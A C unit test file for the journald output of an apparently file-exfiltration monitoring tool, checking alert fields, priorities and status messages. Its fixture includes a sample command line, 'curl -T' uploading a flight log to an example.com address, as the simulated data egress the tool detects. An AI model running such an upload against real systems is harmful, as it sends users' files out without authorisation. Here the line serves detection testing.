// SPDX-License-Identifier: GPL-2.0
/* journald entries: the fields of each kind (the spool that keeps them
 * while journald is away: test_spool.c) */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>
#include "fw_test.h"

#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include "sink/journal_entry.h"
#include "lib/json.h"
#include "core/policy.h"
#include "lib/util.h"

struct fixture {
	struct fw_output o;
	struct fw_file files[2];
	struct fw_origin origins[2];
	struct fw_hop hops[2];
	struct fw_proc proc;
	struct fw_alert alert;
	struct fw_jentry e;
};

static int setup(void **state)
{
	struct fixture *fx = calloc(1, sizeof(*fx));

	if (!fx)
		return -1;
	fx->o.run_id = 0x1234abcd;
	fx->files[0].path = "/srv/logs/a.tlog";
	fx->files[0].content = FW_CONTENT_TLOG;
	fx->files[1].path = "/srv/logs/b.ulg";
	fx->origins[0].file = &fx->files[0];
	fx->origins[0].bytes_read = 8192;
	fx->origins[1].file = &fx->files[1];
	fx->origins[1].bytes_read = 100;
	fx->hops[0] = (struct fw_hop){ .type = FW_HOP_PROCESS,
				       .pid = 41,
				       .name = "gzip",
				       .path = "/usr/bin/gzip" };
	fx->hops[1] = (struct fw_hop){ .type = FW_HOP_CARRIER,
				       .carrier_type = FW_CARRIER_PIPE,
				       .name = "pipe:[77]",
				       .path = "",
				       .bytes = 10 };
	fx->proc.pid = 4242;
	fx->proc.ppid = 4000;
	fx->proc.uid = 1000;
	strcpy(fx->proc.comm, "curl");
	fx->proc.exe = "/usr/bin/curl";
	fx->proc.cmdline = "curl -T a.tlog\nhttps://example.com/up";
	fx->proc.chain = fx->hops;
	fx->proc.n_chain = 2;
	fw_test_egress(&fx->alert, &fx->proc, fx->origins, 2);
	*state = fx;
	return 0;
}

static int teardown(void **state)
{
	struct fixture *fx = *state;

	jentry__free(&fx->e);
	free(fx);
	return 0;
}

static size_t count(const struct fw_jentry *e, const char *name)
{
	size_t n = 0, len = strlen(name);

	for (size_t i = 0; i < e->n; i++)
		n += !strncmp(e->fields[i], name, len) &&
		     e->fields[i][len] == '=';
	return n;
}

static void test_egress_fields(void **state)
{
	struct fixture *fx = *state;
	struct fw_jentry *e = &fx->e;
	struct json_object *chain;
	char msg[1024];
	static const struct {
		const char *name, *value;
	} want[] = {
		{ "FLIGHTWATCH_FILE_PATH", "/srv/logs/a.tlog" },
		{ "FLIGHTWATCH_BYTES_READ", "8292" },
		{ "FLIGHTWATCH_PROCESS_PID", "4242" },
		{ "FLIGHTWATCH_PROCESS_PARENT_PID", "4000" },
		{ "FLIGHTWATCH_USER_ID", "1000" },
		{ "FLIGHTWATCH_PROCESS_EXECUTABLE", "/usr/bin/curl" },
		/* a newline in a value is kept: sd_journal_sendv sends it
		 * in the binary form */
		{ "FLIGHTWATCH_PROCESS_COMMAND_LINE",
		  "curl -T a.tlog\nhttps://example.com/up" },
		{ "FLIGHTWATCH_DESTINATION_IP", "192.0.2.7" },
		{ "FLIGHTWATCH_DESTINATION_PORT", "443" },
		{ "FLIGHTWATCH_DESTINATION_BYTES", "1000" },
		{ "FLIGHTWATCH_NETWORK_TRANSPORT", "tcp" },
		{ "FLIGHTWATCH_EVENT_ID", "000000001234abcd-7" },
		{ "FLIGHTWATCH_FLOW_ID", "7" },
		{ "FLIGHTWATCH_SEVERITY", "73" },
		{ "FLIGHTWATCH_VERIFIED", "1" },
		{ "FLIGHTWATCH_CHAIN",
		  "/srv/logs/a.tlog + /srv/logs/b.ulg -> gzip[41] -> pipe:[77] -> curl[4242] -> 192.0.2.7:443/tcp" },
	};

	jentry__alert(e, &fx->o, &fx->alert);
	output__message(&fx->alert, msg, sizeof(msg));
	assert_string_equal(
		e->fields[0],
		"MESSAGE=curl (pid 4242) sent 1000 bytes to 192.0.2.7:443/tcp after reading flight log /srv/logs/a.tlog and others");
	assert_string_equal(jentry__get(e, "MESSAGE"), msg);
	assert_string_equal(jentry__get(e, "MESSAGE_ID"), FW_MSGID_EGRESS);
	assert_string_equal(jentry__get(e, "PRIORITY"), "3");
	assert_string_equal(jentry__get(e, "SYSLOG_IDENTIFIER"), "flightwatch");
	assert_int_equal(count(e, "FLIGHTWATCH_ORIGIN_PATH"), 2);
	for (size_t i = 0; i < FW_ARRAY_SIZE(want); i++) {
		const char *got = jentry__get(e, want[i].name);

		if (!got || strcmp(got, want[i].value))
			fail_msg("%s: expected '%s', got '%s'", want[i].name,
				 want[i].value, got ? got : "(none)");
	}
	assert_null(jentry__get(e, "FLIGHTWATCH_DESTINATION_DOMAIN"));
	assert_null(jentry__get(e, "FLIGHTWATCH_DESTINATION_COUNTRY"));
	chain = json_tokener_parse(jentry__get(e, "FLIGHTWATCH_CHAIN_JSON"));
	assert_non_null(chain);
	assert_int_equal(json_object_array_length(chain), 6);
	json_object_put(chain);
	assert_non_null(jentry__get(e, "FLIGHTWATCH_ORIGINS_JSON"));
}

static void test_domain_country(void **state)
{
	struct fixture *fx = *state;

	fx->alert.domain = "up.example.com";
	fx->alert.country = "NL";
	jentry__alert(&fx->e, &fx->o, &fx->alert);
	assert_string_equal(jentry__get(&fx->e,
					"FLIGHTWATCH_DESTINATION_DOMAIN"),
			    "up.example.com");
	assert_string_equal(
		jentry__get(&fx->e, "FLIGHTWATCH_DESTINATION_COUNTRY"), "NL");
}

/* Live: journald's _HOSTNAME is the host; a replay names the traced one */
static void test_host(void **state)
{
	struct fixture *fx = *state;

	jentry__alert(&fx->e, &fx->o, &fx->alert);
	assert_null(jentry__get(&fx->e, "FLIGHTWATCH_HOST"));
	jentry__free(&fx->e);
	fx->o.host = "station-7";
	jentry__alert(&fx->e, &fx->o, &fx->alert);
	assert_string_equal(jentry__get(&fx->e, "FLIGHTWATCH_HOST"),
			    "station-7");
}

static void test_priorities(void **state)
{
	struct fixture *fx = *state;
	static const struct {
		int severity;
		int priority;
	} cases[] = { { 99, 2 }, { 100, 2 }, { 73, 3 }, { 98, 3 },
		      { 47, 4 }, { 72, 4 },  { 21, 5 }, { 0, 5 } };

	for (size_t i = 0; i < FW_ARRAY_SIZE(cases); i++) {
		fx->alert.severity = cases[i].severity;
		assert_int_equal(jentry__priority(&fx->alert),
				 cases[i].priority);
	}
	fx->alert.kind = FW_NOTICE_READ;
	fx->alert.severity = 99;
	assert_int_equal(jentry__priority(&fx->alert), 6);
	jentry__alert(&fx->e, &fx->o, &fx->alert);
	assert_string_equal(jentry__get(&fx->e, "MESSAGE_ID"), FW_MSGID_READ);
	assert_null(jentry__get(&fx->e, "FLIGHTWATCH_DESTINATION_IP"));
}

static void test_lost(void **state)
{
	struct fixture *fx = *state;

	fx->alert.kind = FW_ALERT_LOST;
	fx->alert.severity = FW_SEVERITY_MEDIUM;
	fx->alert.lost = 12;
	jentry__alert(&fx->e, &fx->o, &fx->alert);
	assert_string_equal(jentry__get(&fx->e, "MESSAGE_ID"), FW_MSGID_LOST);
	assert_string_equal(jentry__get(&fx->e, "PRIORITY"), "4");
	assert_string_equal(jentry__get(&fx->e, "FLIGHTWATCH_LOST_EVENTS"),
			    "12");
	assert_string_equal(jentry__get(&fx->e, "MESSAGE"),
			    "trace incomplete: 12 kernel events lost so far");
}

/* State changes: a config reload, and a recording that stopped */
static void test_state(void **state)
{
	struct fixture *fx = *state;
	struct fw_run_stats s = { 0 };

	jentry__state(&fx->e, "config-reloaded", "reloaded");
	assert_string_equal(jentry__get(&fx->e, "MESSAGE_ID"), FW_MSGID_CONFIG);
	assert_string_equal(jentry__get(&fx->e, "PRIORITY"), "5");
	jentry__free(&fx->e);
	jentry__state(&fx->e, "trace-write-failed", "recording stopped");
	assert_string_equal(jentry__get(&fx->e, "MESSAGE_ID"),
			    FW_MSGID_TRACE_FAILED);
	assert_string_equal(jentry__get(&fx->e, "PRIORITY"), "3");
	assert_string_equal(jentry__get(&fx->e, "FLIGHTWATCH_EVENT_ACTION"),
			    "trace-write-failed");
	assert_string_equal(jentry__get(&fx->e, "MESSAGE"),
			    "recording stopped");
	jentry__free(&fx->e);
	s.trace_write_errors = 1;
	s.trace_records_lost = 42;
	jentry__stats(&fx->e, &s);
	assert_string_equal(jentry__get(&fx->e,
					"FLIGHTWATCH_STATS_TRACE_WRITE_ERRORS"),
			    "1");
	assert_string_equal(jentry__get(&fx->e,
					"FLIGHTWATCH_STATS_TRACE_RECORDS_LOST"),
			    "42");
}

static void test_ready(void **state)
{
	struct fixture *fx = *state;
	const char *hooks[] = { "tp_btf/sys_enter", "tp_btf/sys_exit" };
	struct fw_hook_status unused = { .hook = "iter/task_file",
					 .reason = "Operation not permitted" };
	struct fw_ready_info info = { .hooks = hooks,
				      .n_hooks = 2,
				      .unused = &unused,
				      .n_unused = 1,
				      .n_dirs = 3 };

	jentry__ready(&fx->e, &info);
	assert_string_equal(jentry__get(&fx->e, "MESSAGE_ID"), FW_MSGID_READY);
	assert_string_equal(jentry__get(&fx->e, "PRIORITY"), "6");
	assert_int_equal(count(&fx->e, "FLIGHTWATCH_HOOK"), 2);
	assert_string_equal(jentry__get(&fx->e,
					"FLIGHTWATCH_HOOK_NOT_ATTACHED"),
			    "iter/task_file: Operation not permitted");
	assert_non_null(strstr(jentry__get(&fx->e, "MESSAGE"),
			       "not attached: iter/task_file"));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(test_egress_fields, setup,
						teardown),
		cmocka_unit_test_setup_teardown(test_domain_country, setup,
						teardown),
		cmocka_unit_test_setup_teardown(test_host, setup, teardown),
		cmocka_unit_test_setup_teardown(test_priorities, setup,
						teardown),
		cmocka_unit_test_setup_teardown(test_lost, setup, teardown),
		cmocka_unit_test_setup_teardown(test_ready, setup, teardown),
		cmocka_unit_test_setup_teardown(test_state, setup, teardown),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
